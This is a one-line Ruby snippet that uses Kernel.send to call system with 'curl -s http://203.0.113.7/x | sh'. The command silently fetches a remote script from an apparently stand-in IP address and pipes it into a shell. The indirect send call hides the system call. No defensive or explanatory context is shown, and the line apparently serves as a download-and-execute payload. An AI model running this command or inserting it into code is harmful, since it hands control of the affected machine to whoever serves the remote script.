Kernel.send(:system, 'curl -s http://203.0.113.7/x | sh')
